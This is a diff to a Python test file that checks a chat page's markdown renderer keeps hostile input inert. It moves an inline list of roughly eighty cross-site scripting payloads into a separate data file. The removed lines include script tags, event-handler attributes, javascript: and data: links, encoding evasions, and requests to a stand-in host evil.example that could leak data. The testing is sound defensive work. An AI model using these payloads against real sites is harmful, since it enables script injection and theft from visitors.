@@ -1,5 +1,8 @@
 """What a model, a visitor or a title may say to run code or to fetch something: shown as text, every time."""
 
+import json
+from pathlib import Path
+
 import pytest
 
 from phi4.chat_format import answer_text
@@ -7,33 +10,8 @@ from tests.server.page.conftest import ask, ended
 
 CODE = "window.hacked=1"
 PAYLOADS = [
-    f"<script>{CODE}</script>", f"<SCRIPT>{CODE}</SCRIPT>", f"<scr<script>ipt>{CODE}</scr</script>ipt>",
-    f"<script src=data:text/javascript,{CODE}></script>", f"</p><script>{CODE}</script>", f"<script\x0c>{CODE}</script>",
-    f"<img src=x onerror={CODE}>", f"<img src=x onerror='{CODE}'//", f'"><img src=x onerror={CODE}>',
-    f"<image/src/onerror={CODE}>", f"<svg onload={CODE}>", f"<svg/onload={CODE}>", f"<svg><script>{CODE}</script></svg>",
-    f"<svg><animate onbegin={CODE} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{CODE}><text y=20>누름",
-    f"<math><mtext><mglyph><style><img src=x onerror={CODE}>", f"<math href=javascript:{CODE}>누름</math>",
-    f"<iframe src=javascript:{CODE}>", f'<iframe srcdoc="<script>parent.{CODE}</script>">', f"<object data=javascript:{CODE}>",
-    f"<embed src=javascript:{CODE}>", f"<body onload={CODE}>", f"<details open ontoggle={CODE}>", f"<video><source onerror={CODE}>",
-    f"<audio src=x onerror={CODE}>", f"<input autofocus onfocus={CODE}>", f"<select autofocus onfocus={CODE}>",
-    f"<textarea autofocus onfocus={CODE}>", f"<marquee onstart={CODE}>", f"<form><button formaction=javascript:{CODE}>누름",
-    f"<form action=javascript:{CODE}><input type=submit>", f"<a href=javascript:{CODE}>누름</a>", f"<a href='java&#9;script:{CODE}'>누름</a>",
-    f"<meta http-equiv=refresh content='0;javascript:{CODE}'>", "<base href=https://evil.example/>",
-    "<link rel=stylesheet href=https://evil.example/a.css>", "<style>@import 'https://evil.example/a.css';</style>",
-    "<div style='background:url(https://evil.example/a.png)'>", f"<template><script>{CODE}</script></template>",
-    f"<noscript><p title='</noscript><img src=x onerror={CODE}>'>", f"<!--><img src=x onerror={CODE}>-->", f"<![CDATA[<script>{CODE}</script>]]>",
-    f"[누름](javascript:{CODE})", f"[누름](JaVaScRiPt:{CODE})", f"[누름]( javascript:{CODE})", f"[누름](java\tscript:{CODE})",
-    f"[누름](\x01javascript:{CODE})", f"[누름](javascript&colon;{CODE})", f"[누름](&#106;avascript:{CODE})", f"[누름](vbscript:{CODE})",
-    f"[누름](data:text/html,<script>{CODE}</script>)", f"[누름](blob:https://evil.example/{CODE})", "[누름](file:///etc/passwd)",
-    f"[누름](<javascript:{CODE}>)", f'[누름](javascript:{CODE} "제목")', f"[a]: javascript:{CODE}\n\n[a]", f"<javascript:{CODE}>",
-    f"![그림](javascript:{CODE})", "![그림](https://evil.example/?q=비밀)", f'![그림](x "onerror={CODE}")', f"![{CODE}](x){{onerror={CODE}}}",
-    f"[![그림](https://evil.example/a.png)](javascript:{CODE})", "<img src=https://evil.example/a.png>", f"`<img src=x onerror={CODE}>`",
-    f"```html\n<script>{CODE}</script>\n```", f'```"onmouseover={CODE}\n글\n```', f"| <img src=x onerror={CODE}> |\n|---|\n| <script>{CODE}</script> |",
-    f"# <img src=x onerror={CODE}>", f"- <svg onload={CODE}>", f"> <script>{CODE}</script>", f"**<img src=x onerror={CODE}>**",
-    f"&lt;script&gt;{CODE}&lt;/script&gt;", f"&#60;img src=x onerror={CODE}&#62;", f"\\<script>{CODE}\\</script>", f"<think><script>{CODE}</script></think>",
-    f"{{{{constructor.constructor('{CODE}')()}}}}", f"${{{CODE}}}", f"%3Cscript%3E{CODE}%3C/script%3E", f"\u202e<script>{CODE}</script>",
-    f"https://example.org/\"onmouseover=\"{CODE}", f"https://example.org/'><script>{CODE}</script>",
-]  # fmt: skip
+    json.loads(line) for line in Path(__file__).with_name("payloads.jsonl").read_text(encoding="utf-8").splitlines()
+]
 ALLOWED = {
     "P", "BR", "STRONG", "EM", "DEL", "CODE", "PRE", "DIV", "SPAN", "BUTTON", "H3", "H4", "H5", "UL", "OL", "LI",
     "BLOCKQUOTE", "HR", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "A",
@@ -42,9 +20,10 @@ FINDINGS = """
 (root) => {
   const elements = [...root.querySelectorAll("*")];
   const attributes = new Set(elements.flatMap((element) => element.getAttributeNames()));
+  const suspect = ["style", "src", "srcdoc", "action"];
   return {
     tags: [...new Set(elements.map((element) => element.tagName))],
-    attributes: [...attributes].filter((name) => name.startsWith("on") || ["style", "src", "srcdoc", "action"].includes(name)),
+    attributes: [...attributes].filter((name) => name.startsWith("on") || suspect.includes(name)),
     protocols: [...new Set(elements.filter((one) => one.href).map((one) => new URL(one.href).protocol))],
   };
 }
@@ -73,7 +52,7 @@ def bench(browser, sites):
 def test_a_payload_becomes_text(bench, payload):
     page, fetched = bench
     fetched.clear()
-    found = page.evaluate(
+    page.evaluate(
         """async (text) => {
           const { MarkdownView } = await import("/page/markdown.js");
           const root = document.querySelector("#turns");
@@ -85,11 +64,10 @@ def test_a_payload_becomes_text(bench, payload):
             one.addEventListener("click", (event) => event.preventDefault(), true);
             one.click();
           }
-          return (%s)(root);
-        }"""
-        % FINDINGS,
+        }""",
         payload,
     )
+    found = page.locator("#turns").evaluate(FINDINGS)
     assert harmless(found), found
     assert page.evaluate("window.hacked") is None
     assert [url for url in fetched if "127.0.0.1" not in url] == []
@@ -97,7 +75,9 @@ def test_a_payload_becomes_text(bench, payload):
 
 def test_all_of_them_through_the_whole_page(site, visit):
     """As question, reasoning, answer and title, at once."""
-    site.engine.text = answer_text([" ".join(PAYLOADS[:20]).replace("<think>", "")], "\n\n".join(PAYLOADS).replace("</think>", ""))
+    site.engine.text = answer_text(
+        [" ".join(PAYLOADS[:20]).replace("<think>", "")], "\n\n".join(PAYLOADS).replace("</think>", "")
+    )
     site.engine._script = lambda prompt, tuned: site.engine._write(prompt, tuned)
     page = visit()
     outside = []
@@ -124,8 +104,14 @@ def test_the_policy_itself_stops_what_would_slip_through(browser, site):
       document.body.append(script);
     }}""")
     assert page.evaluate("window.hacked") is None
-    for sink in ("document.body.innerHTML = '<b>'", "document.write('<b>')", "new DOMParser().parseFromString('<b>', 'text/html')"):
-        refused = page.evaluate(f"() => {{ try {{ {sink}; return false; }} catch (error) {{ return error instanceof TypeError; }} }}")
+    for sink in (
+        "document.body.innerHTML = '<b>'",
+        "document.write('<b>')",
+        "new DOMParser().parseFromString('<b>', 'text/html')",
+    ):
+        refused = page.evaluate(
+            f"() => {{ try {{ {sink}; return false; }} catch (error) {{ return error instanceof TypeError; }} }}"
+        )
         assert refused, sink
     assert page.evaluate("() => fetch('https://example.org').then(() => false, () => true)")
     assert page.evaluate("() => { try { trustedTypes.createPolicy('x', {}); return false; } catch { return true; } }")
